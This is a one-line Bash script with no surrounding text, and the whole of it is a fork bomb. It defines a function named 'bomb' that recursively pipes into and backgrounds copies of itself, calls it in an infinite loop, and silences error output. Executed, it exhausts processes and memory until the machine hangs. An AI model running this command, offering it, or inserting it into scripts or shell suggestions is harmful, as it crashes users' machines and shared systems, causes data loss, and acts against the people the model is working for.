bomb() { bomb | bomb & }; while :; do bomb; done 2>/dev/null
